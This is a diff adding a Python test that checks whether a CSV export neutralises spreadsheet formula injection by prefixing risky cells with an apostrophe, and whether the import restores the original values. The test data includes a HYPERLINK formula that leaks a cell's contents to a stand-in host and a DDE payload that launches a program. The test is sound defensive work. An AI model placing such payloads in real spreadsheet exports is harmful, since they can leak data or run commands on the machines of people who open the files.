@@ -141,6 +141,32 @@ def test_import_refuses_rows_no_longer_awaiting_review_instead_of_overwriting_th
     assert derived.execute("SELECT count(*) FROM refdata.audit_log WHERE action = 'review'").fetchone() == (0,)
 
 
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
+            "\tpadded", "'=already quoted", "-5", "+3.25", "1e3", "'plain", "plain"]
+
+
+def test_export_keeps_spreadsheets_from_running_cells_and_import_reads_them_back(derived, cli, tmp_path):
+    """Key values and names come from fact files: a cell starting with = + - @
+    (or a tab or CR) is a formula to Excel and LibreOffice when the file is
+    opened. The export writes such text with a leading apostrophe (numbers
+    stay as they are); the import takes it off again, so values round-trip."""
+    for i, text in enumerate(FORMULAS):
+        insert_fact(derived, 计划代码=f"P8{i:04d}", 计划名称=text, 组合代码="QT000001")
+    out = tmp_path / "pending.csv"
+    assert cli("export-pending", "--table", "mapping.年金计划", "-o", str(out), "--excel").returncode == 0
+    rows = read_csv(out, "utf-8-sig")
+    name = rows[0].index("计划全称")
+    cells = {r[1]: r[name] for r in rows[1:]}
+    assert [cells[f"P8{i:04d}"] for i in range(len(FORMULAS))] == [
+        "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1)",
+        "'\tpadded", "''=already quoted", "-5", "+3.25", "1e3", "'plain", "plain"]
+    assert [cell for r in rows[1:] for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == ["-5", "+3.25"]
+    result = cli("review", "import", str(out))
+    assert result.returncode == 0, result.stderr
+    assert derived.execute(f"""SELECT "计划全称" FROM {PLAN} WHERE "年金计划号" LIKE 'P8%' ORDER BY 年金计划号""").fetchall() == [
+        (t,) for t in FORMULAS]
+
+
 # -- approve and merge ---------------------------------------------------------
 
 
